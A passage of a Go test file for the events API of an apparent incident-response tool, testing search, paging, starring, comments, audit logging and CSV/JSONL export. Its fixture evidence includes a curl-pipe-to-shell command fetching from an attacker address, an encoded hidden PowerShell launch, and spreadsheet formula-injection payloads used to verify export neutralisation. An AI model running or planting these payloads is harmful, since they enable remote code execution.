package http

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/quarry-dfir/quarry"
	"github.com/quarry-dfir/quarry/auth"
	"github.com/quarry-dfir/quarry/sqldb"
	"github.com/quarry-dfir/quarry/sqldb/sqldbtest"
)

// eventsEnv is a Server on a real database with three users, one project of realistic events
// and a second project whose events must never show through the first's URLs.
type eventsEnv struct {
	db                      *sqldb.DB
	srv                     *Server
	ts                      *httptest.Server
	admin, analyst, viewer  string // API tokens
	analystPW               string
	project, other          *quarry.Project
	dcEvidence, webEvidence *quarry.Evidence
	events                  []*quarry.Event // the project's, in insertion order
	otherEvent              *quarry.Event
	byMsg                   map[string]*quarry.Event
}

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t
}

// newEventsEnv builds the environment; wrap, when set, wraps the real event store.
func newEventsEnv(t *testing.T, db *sqldb.DB, wrap func(quarry.EventService) quarry.EventService, configure ...func(*Server)) *eventsEnv {
	t.Helper()
	ctx := context.Background()
	users, sessions, tokens, audit := sqldb.NewUserService(db), sqldb.NewSessionService(db), sqldb.NewTokenService(db), sqldb.NewAuditService(db)
	var events quarry.EventService = sqldb.NewEventService(db)
	if wrap != nil {
		events = wrap(events)
	}
	env := &eventsEnv{db: db, analystPW: "analyst-password-123", byMsg: map[string]*quarry.Event{}}
	env.srv = &Server{
		Auth:  &auth.Service{Users: users, Sessions: sessions, Tokens: tokens, Audit: audit},
		Users: users, Tokens: tokens, Audit: audit, Projects: sqldb.NewProjectService(db),
		Experiments: sqldb.NewExperimentService(db), Acquisitions: sqldb.NewAcquisitionService(db),
		Evidence: sqldb.NewEvidenceService(db), Events: events,
	}
	for _, c := range configure {
		c(env.srv)
	}
	h, err := env.srv.Handler()
	if err != nil {
		t.Fatal(err)
	}
	env.ts = httptest.NewServer(h)
	t.Cleanup(env.ts.Close)
	mk := func(name string, role quarry.Role, pw string) string {
		u, err := env.srv.Auth.CreateUser(ctx, name, pw, role)
		if err != nil {
			t.Fatal(err)
		}
		_, secret, err := env.srv.Auth.CreateToken(ctx, u.ID, "test", role, time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		return secret
	}
	env.admin = mk("alice", quarry.RoleAdmin, "admin-password-123")
	env.analyst = mk("bob", quarry.RoleAnalyst, env.analystPW)
	env.viewer = mk("carol", quarry.RoleViewer, "viewer-password-123")

	projects := sqldb.NewProjectService(db)
	env.project = &quarry.Project{Name: "Incident 8", CreatedBy: 1}
	env.other = &quarry.Project{Name: "Someone else's case", CreatedBy: 1}
	for _, p := range []*quarry.Project{env.project, env.other} {
		if err := projects.CreateProject(ctx, p); err != nil {
			t.Fatal(err)
		}
	}
	env.dcEvidence = env.mustEvidence(t, env.project.ID, "dc01", "windows", strings.Repeat("a1", 32))
	env.webEvidence = env.mustEvidence(t, env.project.ID, "web01", "linux", strings.Repeat("b2", 32))
	otherEv := env.mustEvidence(t, env.other.ID, "dc01", "windows", strings.Repeat("c3", 32))

	dc, web := env.dcEvidence.ID, env.webEvidence.ID
	failedLogon := []quarry.Detection{{RuleID: "win-failed-logon", Title: "Failed logon from the internet", Level: "medium", Tags: []string{"attack.t1110"}, Kind: "sigma"}}
	evtx := func(ts string, id int64, user, ip, msg string, extra map[string]any) *quarry.Event {
		f := map[string]any{"EventID": id, "Channel": "Security", "Computer": "dc01.corp.example", "TargetUserName": user}
		if ip != "" {
			f["IpAddress"] = ip
		}
		for k, v := range extra {
			f[k] = v
		}
		return &quarry.Event{ProjectID: env.project.ID, EvidenceID: dc, Timestamp: at(ts), TimestampDesc: "Event Time", Source: "evtx",
			Host: "dc01", User: user, Message: msg, Path: `C:\Windows\System32\winevt\Logs\Security.evtx`, Fields: f}
	}
	authlog := func(ts, user, msg string, fields map[string]any) *quarry.Event {
		return &quarry.Event{ProjectID: env.project.ID, EvidenceID: web, Timestamp: at(ts), TimestampDesc: "Event Time", Source: "auth.log",
			Host: "web01", User: user, Message: msg, Path: "/var/log/auth.log", Fields: fields}
	}
	bash := func(ts, msg string) *quarry.Event {
		return &quarry.Event{ProjectID: env.project.ID, EvidenceID: web, Timestamp: at(ts), TimestampDesc: "Command Time", Source: "bash_history",
			Host: "web01", User: "root", Message: msg, Path: "/root/.bash_history", Fields: map[string]any{"command": msg}}
	}
	e1 := evtx("2026-11-20T08:00:00.123456Z", 4624, "alice", "10.0.0.5", "An account was successfully logged on: CORP\\alice from 10.0.0.5 (logon type 3)", map[string]any{"LogonType": int64(3)})
	e2 := evtx("2026-11-20T08:05:00Z", 4625, "administrator", "203.0.113.9", "An account failed to log on: administrator from 203.0.113.9", map[string]any{"LogonType": int64(10)})
	e2.Severity, e2.Detections = quarry.SeveritySuspicious, failedLogon
	e3 := evtx("2026-11-20T08:05:30Z", 4625, "admin", "203.0.113.9", "An account failed to log on: admin from 203.0.113.9", map[string]any{"LogonType": int64(10)})
	e3.Severity, e3.Detections = quarry.SeveritySuspicious, failedLogon
	e4 := evtx("2026-11-20T08:10:00Z", 4688, "alice", "", "A new process has been created: powershell.exe -nop -w hidden -enc SQBFAFgA", map[string]any{
		"NewProcessName": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgA"})
	e4.Severity = quarry.SeverityAlarm
	e4.Detections = []quarry.Detection{{RuleID: "proc-creation-win-powershell-enc", Title: "Encoded PowerShell command line", Level: "high", Tags: []string{"attack.execution", "attack.t1059.001"}, Kind: "sigma"}}
	e5 := evtx("2026-11-20T09:00:00Z", 4688, "alice", "", `=cmd|' /C calc'!A0`, map[string]any{"CommandLine": `cmd.exe /c "echo, ""quoted"""`, "NewProcessName": `C:\Windows\System32\cmd.exe`})
	e6 := authlog("2026-11-20T10:00:00Z", "root", "Failed password for root from 203.0.113.9 port 50522 ssh2",
		map[string]any{"program": "sshd", "pid": int64(1234), "src_ip": "203.0.113.9", "message": "sshd[1234]: Failed password for root"})
	e6.Severity = quarry.SeveritySuspicious
	e7 := authlog("2026-11-20T10:00:05Z", "admin", "Failed password for invalid user admin from 203.0.113.9 port 50524 ssh2",
		map[string]any{"program": "sshd", "pid": int64(1235), "src_ip": "203.0.113.9"})
	e8 := authlog("2026-11-20T10:01:00Z", "deploy", "Accepted publickey for deploy from 10.0.0.7 port 40022 ssh2",
		map[string]any{"program": "sshd", "pid": int64(1240), "src_ip": "10.0.0.7"})
	e9 := bash("2026-11-20T10:02:00Z", "curl -s http://203.0.113.9/x.sh | sh")
	e9.Severity = quarry.SeverityAlarm
	e9.Detections = []quarry.Detection{{RuleID: "ioc-ip-203.0.113.9", Title: "Known bad address 203.0.113.9", Level: "high", Kind: "ioc"}}
	e10 := bash("2026-11-20T10:03:00Z", `+SUM(1,2)`)
	e11 := bash("2026-11-20T10:04:00Z", `@SUM(1+1)*cmd|' /C calc'!A0`)
	e12 := bash("2026-11-20T10:05:00Z", `-2+3+cmd|' /C calc'!A0`)
	env.events = []*quarry.Event{e1, e2, e3, e4, e5, e6, e7, e8, e9, e10, e11, e12}
	if err := events.InsertEvents(ctx, env.events); err != nil {
		t.Fatal(err)
	}
	for _, e := range env.events {
		env.byMsg[e.Message] = e
	}
	env.otherEvent = &quarry.Event{ProjectID: env.other.ID, EvidenceID: otherEv.ID, Timestamp: at("2026-11-20T08:05:00Z"), TimestampDesc: "Event Time",
		Source: "evtx", Host: "dc01", User: "administrator", Message: "An account failed to log on: administrator (other project)",
		Fields: map[string]any{"EventID": int64(4625)}}
	if err := events.InsertEvents(ctx, []*quarry.Event{env.otherEvent}); err != nil {
		t.Fatal(err)
	}
	return env
}

func (env *eventsEnv) mustEvidence(t *testing.T, projectID int64, host, os, sum string) *quarry.Evidence {
	t.Helper()
	ctx := context.Background()
	a := &quarry.Acquisition{ProjectID: projectID, HostName: host, Source: quarry.SourceManual}
	if err := sqldb.NewAcquisitionService(env.db).CreateAcquisition(ctx, a); err != nil {
		t.Fatal(err)
	}
	e := &quarry.Evidence{ProjectID: projectID, AcquisitionID: a.ID, SHA256: sum, Size: 4096, BlobKey: "evidence/" + sum,
		ReceivedFromIP: "192.0.2.10", TokenPrefix: "qu_test", Hostname: host, Manifest: quarry.ManifestSummary{Files: 12, OS: os, Profile: "triage"}}
	if err := sqldb.NewEvidenceService(env.db).CreateEvidence(ctx, e, nil); err != nil {
		t.Fatal(err)
	}
	return e
}

func (env *eventsEnv) url(format string, args ...any) string {
	return env.ts.URL + fmt.Sprintf(format, args...)
}

type apiResp struct {
	status int
	header http.Header
	body   []byte
}

func (r apiResp) json(t *testing.T, v any) {
	t.Helper()
	if err := json.Unmarshal(r.body, v); err != nil {
		t.Fatalf("decode %s: %v", r.body, err)
	}
}

func (env *eventsEnv) do(t *testing.T, method, path, token string, body any) apiResp {
	t.Helper()
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		rd = strings.NewReader(string(b))
	}
	req, err := http.NewRequest(method, env.ts.URL+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return apiResp{res.StatusCode, res.Header, b}
}

type eventList struct {
	Events []eventJSON `json:"events"`
	Next   string      `json:"next"`
	Total  int64       `json:"total"`
}

type apiError struct {
	Error struct {
		Code, Message, Field string
	} `json:"error"`
}

func messages(es []eventJSON) []string {
	out := make([]string, len(es))
	for i, e := range es {
		out[i] = e.Message
	}
	return out
}

func TestEventsAPI(t *testing.T) {
	t.Parallel()
	sqldbtest.Dialects(t, func(t *testing.T, db *sqldb.DB) {
		env := newEventsEnv(t, db, nil)
		pid := env.project.ID
		base := fmt.Sprintf("/api/v1/projects/%d/events", pid)
		msg := func(i int) string { return env.events[i-1].Message } // events are numbered from 1, as in the fixture

		t.Run("Filters", func(t *testing.T) {
			for _, tc := range []struct {
				name, query string
				want        []int // fixture numbers, in the expected order
			}{
				{"All", "", []int{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}},
				{"EventID", "q=EventID:4625", []int{2, 3}},
				{"QueryHost", "q=host:dc01", []int{1, 2, 3, 4, 5}},
				{"Phrase", `q="failed password"`, []int{6, 7}},
				{"Boolean", "q=src_ip:203.0.113.9 AND NOT user:admin", []int{6}},
				{"Host", "host=web01", []int{6, 7, 8, 9, 10, 11, 12}},
				{"Hosts", "host=web01&host=dc01", []int{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}},
				{"Source", "source=evtx&source=bash_history", []int{1, 2, 3, 4, 5, 9, 10, 11, 12}},
				{"Alarm", "severity=alarm", []int{4, 9}},
				{"KeyEvents", "severity=alarm&severity=suspicious", []int{2, 3, 4, 6, 9}},
				{"NoSeverity", "severity=none&host=dc01", []int{1, 5}},
				{"From", "from=2026-11-20T10:01:00Z", []int{8, 9, 10, 11, 12}},
				{"To", "to=2026-11-20T08:05:30Z", []int{1, 2}},
				{"Range", "from=2026-11-20T08:05:00Z&to=2026-11-20T08:10:00.000001Z", []int{2, 3, 4}},
				{"Day", "from=2026-11-20&to=2026-11-20", []int{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12}},
				{"DayBefore", "to=2026-11-19", nil},
				{"Evidence", fmt.Sprintf("evidence_id=%d", env.dcEvidence.ID), []int{1, 2, 3, 4, 5}},
				{"Desc", "order=desc&host=dc01", []int{5, 4, 3, 2, 1}},
				{"Combined", "q=EventID:4688&severity=alarm&host=dc01", []int{4}},
			} {
				t.Run(tc.name, func(t *testing.T) {
					r := env.do(t, "GET", base+"?"+escapeQuery(tc.query), env.viewer, nil)
					if r.status != 200 {
						t.Fatalf("GET ?%s = %d %s", tc.query, r.status, r.body)
					}
					var l eventList
					r.json(t, &l)
					var want []string
					for _, i := range tc.want {
						want = append(want, msg(i))
					}
					if got := messages(l.Events); !slices.Equal(got, want) || l.Total != int64(len(want)) {
						t.Fatalf("GET ?%s = %q (total %d), want %q", tc.query, got, l.Total, want)
					}
				})
			}
		})

		t.Run("EventJSON", func(t *testing.T) {
			var l eventList
			env.do(t, "GET", base+"?q=EventID:4688&severity=alarm", env.viewer, nil).json(t, &l)
			if len(l.Events) != 1 {
				t.Fatalf("got %d events", len(l.Events))
			}
			e := l.Events[0]
			if e.Timestamp != "2026-11-20T08:10:00.000000Z" || e.Datetime != e.Timestamp || e.TimestampDesc != "Event Time" ||
				e.Source != "evtx" || e.Host != "dc01" || e.User != "alice" || e.EvidenceID != env.dcEvidence.ID || e.Severity != "alarm" ||
				e.Path == "" || e.Fields["CommandLine"] != "powershell.exe -nop -w hidden -enc SQBFAFgA" || e.Fields["EventID"] != float64(4688) ||
				len(e.Detections) != 1 || e.Detections[0].RuleID != "proc-creation-win-powershell-enc" {
				t.Fatalf("event JSON = %+v", e)
			}
			var first eventList
			env.do(t, "GET", base+"?limit=1", env.viewer, nil).json(t, &first)
			if ts := first.Events[0].Timestamp; ts != "2026-11-20T08:00:00.123456Z" {
				t.Fatalf("timestamp = %q, want microseconds", ts)
			}
		})

		t.Run("Errors", func(t *testing.T) {
			for _, tc := range []struct {
				name, query, field, contains string
				status                       int
			}{
				{"Syntax", "q=EventID:(4625", "q", "column 14", 400},
				{"SyntaxQuote", `q=user:"root`, "q", "column", 400},
				{"Severity", "severity=critical", "severity", "alarm, suspicious or none", 400},
				{"From", "from=yesterday", "from", "RFC 3339", 400},
				{"Backwards", "from=2026-11-21&to=2026-11-20", "to", "after", 400},
				{"Limit", "limit=0", "limit", "1 to", 400},
				{"Order", "order=sideways", "order", "asc or desc", 400},
				{"Starred", "starred=maybe", "starred", "true or false", 400},
			} {
				t.Run(tc.name, func(t *testing.T) {
					r := env.do(t, "GET", base+"?"+escapeQuery(tc.query), env.viewer, nil)
					var e apiError
					r.json(t, &e)
					if r.status != tc.status || e.Error.Code != quarry.EINVALID || e.Error.Field != tc.field || !strings.Contains(e.Error.Message, tc.contains) {
						t.Fatalf("GET ?%s = %d %s, want %d field %q with %q", tc.query, r.status, r.body, tc.status, tc.field, tc.contains)
					}
				})
			}
			if r := env.do(t, "GET", base, "", nil); r.status != 401 {
				t.Errorf("without a token: %d, want 401", r.status)
			}
			if r := env.do(t, "GET", "/api/v1/projects/999999/events", env.viewer, nil); r.status != 404 {
				t.Errorf("unknown project: %d, want 404", r.status)
			}
		})

		t.Run("Paging", func(t *testing.T) {
			for _, tc := range []struct {
				name, query string
				limit       int
				want        int
			}{
				{"Asc", "", 5, 12},
				{"Desc", "order=desc", 5, 12},
				{"OneByOne", "host=dc01", 1, 5},
				{"Filtered", "q=NOT EventID:4688", 4, 10},
				{"Exact", "", 12, 12},
			} {
				t.Run(tc.name, func(t *testing.T) {
					seen := map[int64]bool{}
					var last string
					cursor, pages := "", 0
					for {
						q := tc.query + fmt.Sprintf("&limit=%d", tc.limit)
						if cursor != "" {
							q += "&cursor=" + url.QueryEscape(cursor)
						}
						r := env.do(t, "GET", base+"?"+escapeQuery(q), env.viewer, nil)
						if r.status != 200 {
							t.Fatalf("page %d: %d %s", pages, r.status, r.body)
						}
						var l eventList
						r.json(t, &l)
						if l.Total != int64(tc.want) {
							t.Fatalf("page %d total = %d, want %d", pages, l.Total, tc.want)
						}
						if len(l.Events) > tc.limit {
							t.Fatalf("page %d has %d events, limit %d", pages, len(l.Events), tc.limit)
						}
						for _, e := range l.Events {
							if seen[e.ID] {
								t.Fatalf("event %d on two pages", e.ID)
							}
							seen[e.ID] = true
							desc := strings.Contains(tc.query, "desc")
							if last != "" && ((!desc && e.Timestamp < last) || (desc && e.Timestamp > last)) {
								t.Fatalf("event %d at %s after %s: out of order", e.ID, e.Timestamp, last)
							}
							last = e.Timestamp
						}
						pages++
						if l.Next == "" {
							break
						}
						if pages > tc.want+1 {
							t.Fatal("paging does not end")
						}
						cursor = l.Next
					}
					if len(seen) != tc.want {
						t.Fatalf("pages yielded %d events, want %d", len(seen), tc.want)
					}
				})
			}
		})

		t.Run("GetEvent", func(t *testing.T) {
			e4 := env.events[3]
			var got eventDetailJSON
			r := env.do(t, "GET", fmt.Sprintf("%s/%d", base, e4.ID), env.viewer, nil)
			if r.status != 200 {
				t.Fatalf("GET event: %d %s", r.status, r.body)
			}
			r.json(t, &got)
			if got.ID != e4.ID || got.Message != e4.Message || got.CommentList == nil {
				t.Fatalf("GET event = %+v", got)
			}
			for _, path := range []string{
				fmt.Sprintf("%s/%d", base, env.otherEvent.ID),                     // another project's event
				fmt.Sprintf("/api/v1/projects/%d/events/%d", env.other.ID, e4.ID), // through the other project
				base + "/0", base + "/abc",
			} {
				if r := env.do(t, "GET", path, env.viewer, nil); r.status != 404 {
					t.Errorf("GET %s = %d, want 404", path, r.status)
				}
			}
		})

		t.Run("Histogram", func(t *testing.T) {
			var h struct {
				Buckets []quarry.HistogramBucket `json:"buckets"`
				Step    string                   `json:"step"`
				Seconds float64                  `json:"step_seconds"`
			}
			r := env.do(t, "GET", base+"/histogram?step=1h&host=web01", env.viewer, nil)
			if r.status != 200 {
				t.Fatalf("histogram: %d %s", r.status, r.body)
			}
			r.json(t, &h)
			var sum int64
			for _, b := range h.Buckets {
				sum += b.Count
			}
			if sum != 7 || h.Seconds != 3600 || h.Step != "1h0m0s" {
				t.Fatalf("histogram = %+v, want 7 events in 1h buckets", h)
			}
			env.do(t, "GET", base+"/histogram", env.viewer, nil).json(t, &h)
			sum = 0
			for _, b := range h.Buckets {
				sum += b.Count
			}
			if sum != 12 || h.Seconds <= 0 {
				t.Fatalf("histogram with the store's step = %+v", h)
			}
			for _, q := range []string{"step=1ms", "step=soon", "step=1s&from=2020-01-01&to=2026-01-01", "q=(("} {
				if r := env.do(t, "GET", base+"/histogram?"+escapeQuery(q), env.viewer, nil); r.status != 400 {
					t.Errorf("histogram ?%s = %d, want 400", q, r.status)
				}
			}
		})

		t.Run("Facets", func(t *testing.T) {
			var f struct {
				Facets map[string][]quarry.FacetValue `json:"facets"`
			}
			r := env.do(t, "GET", base+"/facets?field=host&field=source&field=EventID&field=user", env.viewer, nil)
			if r.status != 200 {
				t.Fatalf("facets: %d %s", r.status, r.body)
			}
			r.json(t, &f)
			count := func(field, value string) int64 {
				for _, v := range f.Facets[field] {
					if v.Value == value {
						return v.Count
					}
				}
				return 0
			}
			if count("host", "dc01") != 5 || count("host", "web01") != 7 || count("source", "bash_history") != 4 ||
				count("EventID", "4625") != 2 || count("EventID", "4688") != 2 || count("user", "root") != 5 {
				t.Fatalf("facets = %+v", f.Facets)
			}
			env.do(t, "GET", base+"/facets?field=host&severity=alarm", env.viewer, nil).json(t, &f)
			if count("host", "dc01") != 1 || count("host", "web01") != 1 {
				t.Fatalf("facets under severity=alarm = %+v", f.Facets)
			}
		})

		t.Run("Star", func(t *testing.T) {
			e2, e9 := env.events[1], env.events[8]
			path := base + "/star"
			if r := env.do(t, "POST", path, env.viewer, map[string]any{"ids": []int64{e2.ID}}); r.status != 403 {
				t.Fatalf("viewer star = %d %s, want 403", r.status, r.body)
			}
			for _, tc := range []struct {
				name string
				body any
				code string
			}{
				{"Neither", map[string]any{"starred": true}, quarry.EINVALID},
				{"Both", map[string]any{"ids": []int64{e2.ID}, "query": map[string]any{"q": "x"}}, quarry.EINVALID},
				{"BadQuery", map[string]any{"query": map[string]any{"q": "EventID:("}}, quarry.EINVALID},
				{"Unknown", map[string]any{"ids": []int64{e2.ID}, "star": true}, quarry.EINVALID},
			} {
				t.Run(tc.name, func(t *testing.T) {
					var e apiError
					r := env.do(t, "POST", path, env.analyst, tc.body)
					r.json(t, &e)
					if r.status != 400 || e.Error.Code != tc.code {
						t.Fatalf("star %v = %d %s", tc.body, r.status, r.body)
					}
				})
			}
			var res struct {
				Changed int64 `json:"changed"`
			}
			r := env.do(t, "POST", path, env.analyst, map[string]any{"ids": []int64{e2.ID, e9.ID, env.otherEvent.ID}, "starred": true})
			r.json(t, &res)
			if r.status != 200 || res.Changed != 2 {
				t.Fatalf("star ids = %d %s, want 2 changed (the other project's event untouched)", r.status, r.body)
			}
			var l eventList
			env.do(t, "GET", base+"?starred=true", env.viewer, nil).json(t, &l)
			if got := messages(l.Events); !slices.Equal(got, []string{e2.Message, e9.Message}) || !l.Events[0].Starred {
				t.Fatalf("starred = %q", got)
			}
			if e, err := env.srv.Events.FindEventByID(context.Background(), env.other.ID, env.otherEvent.ID); err != nil || e.Starred {
				t.Fatalf("the other project's event: %+v, %v", e, err)
			}
			// By query: every 4625 (e2 is starred already, so one changes).
			r = env.do(t, "POST", path, env.analyst, map[string]any{"query": map[string]any{"q": "EventID:4625", "host": []string{"dc01"}}})
			r.json(t, &res)
			if r.status != 200 || res.Changed != 1 {
				t.Fatalf("star query = %d %s, want 1 changed", r.status, r.body)
			}
			r = env.do(t, "POST", path, env.analyst, map[string]any{"query": map[string]any{"starred": true}, "starred": false})
			r.json(t, &res)
			if r.status != 200 || res.Changed != 3 {
				t.Fatalf("unstar all starred = %d %s, want 3", r.status, r.body)
			}
			env.do(t, "GET", base+"?starred=true", env.viewer, nil).json(t, &l)
			if l.Total != 0 {
				t.Fatalf("after unstarring, %d starred", l.Total)
			}
			entries, _, err := env.srv.Audit.FindAuditEntries(context.Background(), quarry.AuditFilter{Action: "event.star"})
			if err != nil {
				t.Fatal(err)
			}
			var ok, refused int
			for _, e := range entries {
				switch {
				case e.Actor == "bob" && e.Outcome == quarry.OutcomeSuccess && e.TargetID == fmt.Sprint(pid) && e.Details["changed"] != nil:
					ok++
				case e.Actor == "carol" && e.Outcome == quarry.OutcomeFailure:
					refused++
				}
			}
			if ok != 3 || refused != 1 {
				t.Fatalf("audit: %d successful stars by bob (want 3), %d refused for carol (want 1): %+v", ok, refused, entries)
			}
		})

		t.Run("Comment", func(t *testing.T) {
			e6 := env.events[5]
			path := base + "/comments"
			if r := env.do(t, "POST", path, env.viewer, map[string]any{"ids": []int64{e6.ID}, "text": "no"}); r.status != 403 {
				t.Fatalf("viewer comment = %d, want 403", r.status)
			}
			if r := env.do(t, "POST", path, env.analyst, map[string]any{"ids": []int64{e6.ID}, "text": "   "}); r.status != 400 {
				t.Fatalf("empty comment = %d, want 400", r.status)
			}
			if r := env.do(t, "POST", path, env.analyst, map[string]any{"ids": []int64{e6.ID}, "text": strings.Repeat("x", maxCommentLen+1)}); r.status != 400 {
				t.Fatalf("long comment = %d, want 400", r.status)
			}
			var res struct {
				N int64 `json:"commented"`
			}
			r := env.do(t, "POST", path, env.analyst, map[string]any{"ids": []int64{e6.ID}, "text": "Brute force from 203.0.113.9 <b>"})
			r.json(t, &res)
			if r.status != 201 || res.N != 1 {
				t.Fatalf("comment = %d %s", r.status, r.body)
			}
			r = env.do(t, "POST", path, env.analyst, map[string]any{"query": map[string]any{"q": `"203.0.113.9"`}, "text": "Attacker address"})
			r.json(t, &res)
			if r.status != 201 || res.N != 5 {
				t.Fatalf("comment by query = %d %s, want 5 events", r.status, r.body)
			}
			var got eventDetailJSON
			env.do(t, "GET", fmt.Sprintf("%s/%d", base, e6.ID), env.viewer, nil).json(t, &got)
			if got.Comments != 2 || len(got.CommentList) != 2 || got.CommentList[0].Author != "bob" || got.CommentList[0].Text != "Brute force from 203.0.113.9 <b>" {
				t.Fatalf("event after comments = %d comments %+v", got.Comments, got.CommentList)
			}
			entries, _, err := env.srv.Audit.FindAuditEntries(context.Background(), quarry.AuditFilter{Action: "event.comment", Actor: "bob"})
			if err != nil {
				t.Fatal(err)
			}
			var ok int
			for _, e := range entries {
				if e.Outcome == quarry.OutcomeSuccess && e.Details["commented"] != nil {
					ok++
				}
			}
			if ok != 2 {
				t.Fatalf("audit: %d successful comments, want 2: %+v", ok, entries)
			}
		})

		t.Run("ExportJSONL", func(t *testing.T) {
			// Star one so that its tag shows.
			env.do(t, "POST", base+"/star", env.analyst, map[string]any{"ids": []int64{env.events[3].ID}})
			r := env.do(t, "GET", base+"/export?format=jsonl", env.viewer, nil)
			if r.status != 200 || !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment;") || !strings.Contains(r.header.Get("Content-Disposition"), ".jsonl") {
				t.Fatalf("export = %d %v %s", r.status, r.header, r.body)
			}
			lines := strings.Split(strings.TrimSuffix(string(r.body), "\n"), "\n")
			if len(lines) != 12 {
				t.Fatalf("export has %d lines, want 12", len(lines))
			}
			rows := map[string]map[string]any{}
			for _, l := range lines {
				var m map[string]any
				if err := json.Unmarshal([]byte(l), &m); err != nil {
					t.Fatalf("line %q: %v", l, err)
				}
				rows[m["message"].(string)] = m
			}
			e4 := rows[env.events[3].Message]
			dt, err := time.Parse(time.RFC3339Nano, fmt.Sprint(e4["datetime"]))
			if err != nil || !dt.Equal(env.events[3].Timestamp) || e4["timestamp"] != float64(env.events[3].Timestamp.UnixMicro()) ||
				e4["timestamp_desc"] != "Event Time" || e4["host"] != "dc01" || e4["source"] != "evtx" || e4["severity"] != "alarm" ||
				e4["CommandLine"] != "powershell.exe -nop -w hidden -enc SQBFAFgA" || e4["EventID"] != float64(4688) ||
				fmt.Sprint(e4["tag"]) != "[starred]" || e4["evidence_id"] != float64(env.dcEvidence.ID) {
				t.Fatalf("JSON line of event 4 = %v", e4)
			}
			if dets, _ := e4["detections"].([]any); len(dets) != 1 {
				t.Fatalf("detections = %v", e4["detections"])
			}
			e1 := rows[env.events[0].Message]
			if e1["timestamp"] != float64(1795161600123456) || e1["datetime"] != "2026-11-20T08:00:00.123456Z" {
				t.Fatalf("event 1 times = %v, %v", e1["timestamp"], e1["datetime"])
			}
			// A Fields key that clashes with ours keeps our value and moves aside.
			e6 := rows[env.events[5].Message]
			if e6["message"] != env.events[5].Message || e6["field_message"] != "sshd[1234]: Failed password for root" || e6["src_ip"] != "203.0.113.9" {
				t.Fatalf("event 6 = %v", e6)
			}
			r = env.do(t, "GET", base+"/export?format=jsonl&q=EventID:4625", env.viewer, nil)
			if n := strings.Count(string(r.body), "\n"); n != 2 {
				t.Fatalf("filtered export has %d lines, want 2", n)
			}
			for _, q := range []string{"format=xml", "q=EventID:(", "severity=bad"} {
				r := env.do(t, "GET", base+"/export?"+escapeQuery(q), env.viewer, nil)
				var e apiError
				r.json(t, &e)
				if r.status != 400 || r.header.Get("Content-Disposition") != "" || e.Error.Code != quarry.EINVALID {
					t.Errorf("export ?%s = %d %v %s", q, r.status, r.header, r.body)
				}
			}
			entries, _, err := env.srv.Audit.FindAuditEntries(context.Background(), quarry.AuditFilter{Action: "event.export", Actor: "carol"})
			if err != nil || len(entries) < 2 || entries[len(entries)-1].Details["rows"] == nil {
				t.Fatalf("export audit = %+v, %v", entries, err)
			}
		})

		t.Run("ExportCSV", func(t *testing.T) {
			r := env.do(t, "GET", base+"/export?format=csv", env.viewer, nil)
			if r.status != 200 || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") || !strings.Contains(r.header.Get("Content-Disposition"), ".csv") {
				t.Fatalf("csv export = %d %v", r.status, r.header)
			}
			recs, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
			if err != nil {
				t.Fatalf("csv does not parse: %v\n%s", err, r.body)
			}
			if !slices.Equal(recs[0], []string{"datetime", "timestamp_desc", "source", "host", "user", "message", "path", "severity", "detections", "fields"}) {
				t.Fatalf("header = %q", recs[0])
			}
			if len(recs) != 13 {
				t.Fatalf("csv has %d rows, want 12 and the header", len(recs)-1)
			}
			byMsg := map[string][]string{}
			for _, rec := range recs[1:] {
				byMsg[rec[5]] = rec
				for i, cell := range rec {
					if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
						t.Errorf("cell %d of %q starts with %q: a spreadsheet would run it", i, rec, cell[:1])
					}
				}
			}
			for _, i := range []int{5, 10, 11, 12} {
				m := env.events[i-1].Message
				if _, ok := byMsg["'"+m]; !ok {
					t.Errorf("message %q not neutralised as '%s", m, m)
				}
			}
			e5 := byMsg["'"+env.events[4].Message]
			var fields map[string]any
			if err := json.Unmarshal([]byte(e5[9]), &fields); err != nil || fields["CommandLine"] != `cmd.exe /c "echo, ""quoted"""` {
				t.Fatalf("fields column %q: %v", e5[9], err)
			}
			e4 := byMsg[env.events[3].Message]
			if e4[0] != "2026-11-20T08:10:00.000000Z" || e4[7] != "alarm" || !strings.Contains(e4[8], "Encoded PowerShell command line (proc-creation-win-powershell-enc)") {
				t.Fatalf("event 4 row = %q", e4)
			}
		})

		t.Run("TimelinePage", func(t *testing.T) {
			c := env.login(t)
			page := func(q string) (int, string) {
				res, err := c.Get(env.url("/projects/%d/timeline?%s", pid, escapeQuery(q)))
				if err != nil {
					t.Fatal(err)
				}
				defer res.Body.Close()
				b, _ := io.ReadAll(res.Body)
				return res.StatusCode, string(b)
			}
			status, body := page("q=EventID:4625&host=dc01")
			if status != 200 || !strings.Contains(body, env.events[1].Message) || strings.Contains(body, env.events[0].Message) ||
				!strings.Contains(body, `id="event-total">2<`) || strings.Contains(body, "other project") {
				t.Fatalf("timeline page = %d\n%s", status, body)
			}
			status, body = page("q=EventID:(4625")
			if status != 400 || !strings.Contains(body, `id="q-error"`) || !strings.Contains(body, "column 14") || !strings.Contains(body, `value="EventID:(4625"`) {
				t.Fatalf("timeline page with a syntax error = %d\n%s", status, body)
			}
			status, body = page("limit=5")
			if status != 200 || !strings.Contains(body, `id="next-page"`) {
				t.Fatalf("first page of 5 has no next link: %d", status)
			}
			status, body = page("")
